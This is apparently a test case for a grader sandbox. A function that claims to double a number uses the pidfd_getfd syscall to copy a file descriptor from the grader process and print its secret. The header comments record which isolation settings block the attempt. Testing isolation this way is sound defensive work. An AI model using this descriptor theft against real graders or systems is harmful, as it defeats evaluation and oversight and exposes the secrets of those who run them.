# tries: takes a copy of a descriptor that the grader has open
# stopped by: landlock, seccomp, namespaces
# evidence: secret
# process: works, accepted
# sandbox: blocked, runtime_error
# namespaces: blocked, runtime_error
import ctypes
import json
import os

PIDFD_GETFD = 438
LIBC = ctypes.CDLL(None, use_errno=True)


def double(x, stage):
    facts = json.loads(stage)
    taken = LIBC.syscall(PIDFD_GETFD, os.pidfd_open(facts["grader"]), facts["descriptor"], 0)
    if taken < 0:
        raise OSError(ctypes.get_errno(), "pidfd_getfd")
    print(os.pread(taken, 1000, 0).decode())
    os.close(taken)
    return 2 * x
